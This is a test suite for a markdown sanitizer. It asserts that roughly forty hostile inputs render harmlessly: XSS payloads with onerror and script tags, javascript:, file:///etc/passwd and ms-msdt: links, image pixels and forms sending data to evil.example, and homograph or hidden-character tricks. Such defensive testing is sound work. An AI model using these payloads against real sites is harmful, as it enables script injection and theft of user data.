import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { markupOf, strangersIn } from './closed-list.contract'

/** Every way in that is known from others, by name. Each must come out as text of our own elements. */
const attacks: Readonly<Record<string, string>> = {
  'remote image': '![x](https://evil.example/pixel?d=secret)',
  'image by reference': '![x][pixel]\n\n[pixel]: https://evil.example/pixel',
  'image in a link': '[![x](https://evil.example/p)](https://evil.example)',
  'data image': '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  'image with handler': '<img src=x onerror=alert(1)>',
  'image with source set': '<img srcset="https://evil.example/p 1x">',
  script: '<script>alert(1)</script>',
  'script in a block': 'text\n\n<script>\nalert(1)\n</script>\n\ntext',
  'vector image with handler': '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  'style attribute': '<div style="background:url(https://evil.example)">x</div>',
  'style element': '<style>@import "https://evil.example"</style>',
  'video poster': '<video poster="https://evil.example/p"></video>',
  form: '<form action="https://evil.example"><input name=password><button>Send</button></form>',
  frame: '<iframe src="https://evil.example"></iframe>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'base address': '<base href="https://evil.example/">',
  'linked style': '<link rel=stylesheet href=https://evil.example/a.css>',
  object: '<object data="https://evil.example"></object><embed src=https://evil.example>',
  'script address': '[x](javascript:alert(1))',
  'script address, disguised': '[x](java\tscript:alert(1)) [y](&#106;avascript:alert(1)) [z](JaVaScRiPt:alert(1))',
  'script address by reference': '[x][y]\n\n[y]: javascript:alert(1)',
  'script address in brackets': '<javascript:alert(1)>',
  'data address': '[x](data:text/html,<script>alert(1)</script>)',
  'file address': '[x](file:///etc/passwd)',
  'share address': '[x](smb://evil.example/share) [y](\\\\evil.example\\share)',
  'handler address': '[x](ms-msdt:/id) [y](calculator://) [z](vbscript:x)',
  'mail address': 'write to a@evil.example or <mailto:b@evil.example>',
  'markup in link words': '[<img src=x onerror=alert(1)>](https://a.example)',
  'markup in a title': '[x](https://a.example "<img src=x onerror=alert(1)>")',
  'markup in alternative text': '![<img src=x onerror=alert(1)>](https://evil.example/p)',
  'markup in a language name': '```"><img src=x onerror=alert(1)>\ncode\n```',
  'markup in a table': '| <script>a</script> | b |\n| - | - |\n| <img src=x> | `<b>` |',
  'markup in a note': 'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'markup in a formula':
    '$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/p}$$ $\\htmlStyle{x}{y}$',
  'unclosed comment': '<!-- never closed\n\n<img src=x>',
  'processing instruction': '<?php echo 1 ?> <!DOCTYPE html> <![CDATA[ <b> ]]>',
  'entity for a bracket': '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
  'nested brackets': '<<script>script>alert(1)</script>',
  'names of the prototype':
    '[a][__proto__] [b][constructor]\n\n[__proto__]: https://a.example\n\n```constructor\nx\n```',
}

describe('a hostile text', () => {
  it.each(Object.entries(attacks))('is shown and not obeyed: %s', (_name, text) => {
    expect(strangersIn(markupOf(text))).toEqual([])
    expect(strangersIn(markupOf(text, true))).toEqual([])
  })

  it('never becomes an element or attribute outside the closed lists, whatever it is', () => {
    const parts = fc.array(fc.oneof(fc.constantFrom(...Object.values(attacks)), fc.string({ unit: 'binary' })), {
      maxLength: 6,
    })
    fc.assert(fc.property(parts, (texts) => strangersIn(markupOf(texts.join('\n'))).length === 0))
  })

  it('would be caught by the check if it were obeyed', () => {
    expect(strangersIn('<p><img src="x"></p>')).toEqual(['img', 'img[src]'])
    expect(strangersIn('<a href="https://a.example">x</a>')).toContain('a[href]')
    expect(strangersIn('<p onclick="x">x</p>')).toEqual(['p[onclick]'])
    expect(strangersIn('<p>a < b</p>')).toHaveLength(1)
  })
})

describe('an address', () => {
  it('of the web can be opened, and shows its host beside other words', () => {
    expect(markupOf('[your bank](https://evil.example/login)')).toMatch(/role="link".*your bank.*\(evil\.example\)/)
  })

  it('that is its own words is not named twice', () => {
    expect(markupOf('https://a.example/path')).not.toContain('md-host')
  })

  it('in letters of another alphabet shows the host it really is', () => {
    expect(markupOf('[apple.com](https://аpple.com)')).toContain('xn--pple-43d.com')
    expect(markupOf('https://аpple.com/x')).toContain('xn--pple-43d.com')
  })

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'smb://host/share',
    'ms-msdt:/id',
    'mailto:a@b.example',
    'https://bank.example@evil.example/',
    '/relative',
  ])('is only shown when it is not plainly of the web: %s', (address) => {
    const markup = markupOf(`[words](<${address}>)`)
    expect(markup).not.toContain('role="link"')
    expect(markup).toContain(address.slice(0, 10))
  })

  it('cannot hide characters', () => {
    expect(markupOf('[a\u202Eb](https://a.example)')).toContain('‹U+202E›')
    expect(markupOf('[a](file:///x\u200By)')).toContain('‹U+200B›')
    expect(markupOf('```j\u2066s\nx\u202Ey\n```')).toMatch(/j‹U\+2066›s.*x‹U\+202E›y/s)
  })
})

describe('an image', () => {
  it('is a placeholder that names its words and its host', () => {
    expect(markupOf('![a chart](https://evil.example/p.png?d=1)')).toContain('a chart')
    expect(markupOf('![a chart](https://evil.example/p.png?d=1)')).toContain('not loaded, evil.example')
    expect(markupOf('![x](data:image/png;base64,AA)')).toContain('data in the text')
  })
})
